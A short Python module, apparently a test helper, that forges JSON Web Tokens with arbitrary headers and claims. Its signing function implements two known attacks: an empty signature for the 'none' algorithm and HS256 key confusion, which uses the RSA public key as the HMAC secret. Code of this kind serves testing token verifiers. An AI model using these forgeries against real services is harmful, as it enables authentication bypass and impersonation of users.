"""Makes tokens with any header and any claims, also ones that no honest library would sign."""

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping

from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


def forge(claims: object, header: Mapping[str, object], key: RSAPrivateKey) -> str:
    """A token over `claims`; signed by what `header["alg"]` says, as an attacker would do it for HS256 and none."""
    return seal(json.dumps(claims).encode(), header, key)


def seal(payload: bytes, header: Mapping[str, object], key: RSAPrivateKey) -> str:
    """The same over bytes of any kind."""
    signed = f"{encode(json.dumps(header).encode())}.{encode(payload)}"
    return f"{signed}.{encode(_signature(signed.encode(), header.get('alg'), key))}"


def encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _signature(signed: bytes, algorithm: object, key: RSAPrivateKey) -> bytes:
    if algorithm == "none":
        return b""
    if algorithm == "HS256":  # the classic confusion: the public key as the shared secret
        public = key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        return hmac.digest(public, signed, hashlib.sha256)
    return key.sign(signed, PKCS1v15(), SHA256())
